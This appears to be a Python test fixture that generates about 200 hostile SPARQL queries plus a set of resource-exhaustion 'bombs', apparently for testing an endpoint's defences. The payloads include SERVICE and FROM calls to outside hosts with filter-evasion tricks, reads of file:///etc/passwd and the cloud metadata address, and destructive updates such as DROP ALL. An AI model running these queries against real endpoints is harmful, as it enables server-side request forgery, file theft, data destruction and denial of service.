"""Hostile queries: 200 ways to reach out of the store, to change it, or to read a file."""

from __future__ import annotations

from itertools import product

WRAPPERS = (
    "SELECT * WHERE {{ {} }}",
    "ASK {{ {} }}",
    "CONSTRUCT {{ ?s ?p ?o }} WHERE {{ {} }}",
    "SELECT * WHERE {{ {{ SELECT * WHERE {{ {} }} }} }}",
    "SELECT * WHERE {{ OPTIONAL {{ {} }} }}",
    "SELECT * WHERE {{ {{ }} UNION {{ {} }} }}",
    "SELECT * WHERE {{ FILTER NOT EXISTS {{ {} }} }}",
    "SELECT * WHERE {{ GRAPH ?g {{ {} }} }}",
    "SELECT * WHERE {{ MINUS {{ {} }} }}",
    "DESCRIBE ?s WHERE {{ {} }}",
)


def queries(canary: str) -> list[str]:
    """At least 200 queries that would reach the canary's address, a file, or change the graph."""
    services = (
        f"SERVICE <{canary}> {{ ?s ?p ?o }}",
        f"sErViCe <{canary}> {{ ?s ?p ?o }}",
        f"SERVICE SILENT <{canary}> {{ ?s ?p ?o }}",
        f"SERVICE#comment\n<{canary}> {{ ?s ?p ?o }}",
        f"BIND(<{canary}> AS ?e) SERVICE ?e {{ ?s ?p ?o }}",
        f"VALUES ?e {{ <{canary}> }} SERVICE ?e {{ ?s ?p ?o }}",
        f"\\u0053ERVICE <{canary}> {{ ?s ?p ?o }}",
        f"SERV\\u0049CE <{canary}> {{ ?s ?p ?o }}",
        f"?s ?p true SERVICE<{canary}>{{ ?s ?p ?o }}",
        f"?s ?p trueSERVICE<{canary}>{{ ?s ?p ?o }}",
        f"?s ?p 1SERVICE<{canary}>{{ ?s ?p ?o }}",
        f"?s ?p 'x'SERVICE<{canary}>{{ ?s ?p ?o }}",
        f"FILTER(?a<?b)SERVICE<{canary}>{{ ?s ?p ?o }}",
        f"?s ?p ?o . SERVICE\t<{canary}>\t{{ ?s ?p ?o }}",
    )
    found = [wrapper.format(service) for wrapper, service in product(WRAPPERS, services)]
    prefix = f"PREFIX x: <{canary}> PREFIX SERVICE: <{canary}> PREFIX : <{canary}> "
    found += [
        prefix + query
        for query in (
            "SELECT * { SERVICE x: { ?s ?p ?o } }",
            "SELECT * { SERVICE:x { ?s ?p ?o } }",
            "SELECT * { SERVICE : { ?s ?p ?o } }",
            "SELECT * { FILTER(?a<?b)SERVICE:x#>\n{ ?s ?p ?o } }",
            "SELECT * { FILTER(?a<x:b)SERVICE:x#>\n{ ?s ?p ?o } }",
            "SELECT * { ?s ?p ?o SERVICE x:a { ?s ?p ?o } }",
        )
    ]
    targets = (
        canary,
        "file:///etc/passwd",
        "http://169.254.169.254/",
        "ftp://127.0.0.1/x",
        "data:text/turtle,",
    )
    froms = ("FROM <{}>", "FROM NAMED <{}>", "from <{}>", "FROM#x\n<{}>", "\\u0046ROM <{}>")
    found += [f"SELECT * {f.format(t)} WHERE {{ ?s ?p ?o }}" for f, t in product(froms, targets)]
    found += [f"PREFIX x: <{canary}> SELECT * FROM x:a WHERE {{ ?s ?p ?o }}"]
    found += [f"LOAD <{t}>" for t in targets] + [f"LOAD SILENT <{t}> INTO GRAPH <a:b>" for t in targets]
    found += [
        "INSERT DATA { <a:a> <a:b> <a:c> }",
        "DELETE WHERE { ?s ?p ?o }",
        "DELETE { ?s ?p ?o } INSERT { ?s ?p 1 } WHERE { ?s ?p ?o }",
        "WITH <a:b> DELETE { ?s ?p ?o } WHERE { ?s ?p ?o }",
        "CLEAR ALL",
        "DROP ALL",
        "CREATE GRAPH <a:b>",
        "COPY <a:b> TO <a:c>",
        "MOVE <a:b> TO <a:c>",
        "ADD <a:b> TO <a:c>",
        "SELECT * { ?s ?p ?o } ; DROP ALL",
        "ASK { } ; INSERT DATA { <a:a> <a:b> <a:c> }",
        "PREFIX a: <a:> DROP ALL",
        "BASE <file:///etc/> LOAD <passwd>",
        "SELECT * { GRAPH <file:///etc/passwd> { ?s ?p ?o } }",
        f"SELECT * {{ GRAPH <{canary}> {{ ?s ?p ?o }} }}",
        f"DESCRIBE <{canary}>",
        "DESCRIBE <file:///etc/passwd>",
        "SELECT (<file:///etc/passwd>(1) AS ?x) { }",
        f"SELECT (<{canary}>(1) AS ?x) {{ }}",
    ]
    return found


def bombs() -> list[str]:
    """Queries that never end, or fill memory, or nest until an engine falls."""
    doubling = " ".join(f"BIND (CONCAT(?a{n}, ?a{n}) AS ?a{n + 1})" for n in range(60))
    return [
        "SELECT (COUNT(*) AS ?n) { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i . ?j ?k ?l }",
        "SELECT * { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i } ORDER BY ?a ?f ?i",
        "SELECT DISTINCT ?a ?e ?i { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i }",
        f"SELECT (STRLEN(?a60) AS ?z) {{ BIND ('aaaaaaaaaaaaaaaa' AS ?a0) {doubling} }}",
        "SELECT * { ?s " + "/".join(["(!<x:y>)+"] * 20) + " ?o }",
        "SELECT * { ?s " + "/".join(["<x:p>+"] * 1500) + " ?o }",
        "SELECT (" + "+".join(["1"] * 7000) + " AS ?x) { }",
        "SELECT * { FILTER(" + "!" * 10_000 + "true) }",
        "SELECT (GROUP_CONCAT(?c) AS ?x) { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i } GROUP BY ?a",
        "SELECT * { ?a ?b ?c . ?d ?e ?f FILTER REGEX(CONCAT(STR(?c), STR(?f)), '^(.*a.*b)*(.*)*$', 'i') . ?g ?h ?i }",
    ]
